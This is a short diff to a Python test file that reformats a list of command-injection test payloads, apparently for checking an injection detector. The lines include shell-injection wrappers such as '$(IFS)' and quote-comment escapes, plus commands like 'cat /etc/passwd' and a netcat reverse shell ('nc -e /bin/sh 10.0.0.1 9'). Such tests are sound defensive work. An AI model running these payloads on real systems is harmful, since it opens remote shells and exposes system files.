@@ -81,7 +81,16 @@ AROUND = [
     *(("&#38;", ""), ("&amp;", ""), ("x&#38 ", ""), ("x&lt ", ""), ("x&", ";"), ("http://x/?q=", ""), ("x?y=", ""), ("?", "")),
     *(("$(IFS)", ""), ("x${IFS}", ""), ("-x ", ""), ("--x=", ""), ("x' -- ", ""), ("x'/**/", ""), ("~", ""), ("*", ""), ("＄", "")),
 ]  # fmt: skip
-PROGRAMS = ["id", "whoami", "ls -la", "sleep 5", "ping -c 10 127.0.0.1", "cat /etc/passwd", "nc -e /bin/sh 10.0.0.1 9", "ver"]
+PROGRAMS = [
+    "id",
+    "whoami",
+    "ls -la",
+    "sleep 5",
+    "ping -c 10 127.0.0.1",
+    "cat /etc/passwd",
+    "nc -e /bin/sh 10.0.0.1 9",
+    "ver",
+]
 
 
 @pytest.mark.parametrize(("before", "behind"), AROUND)
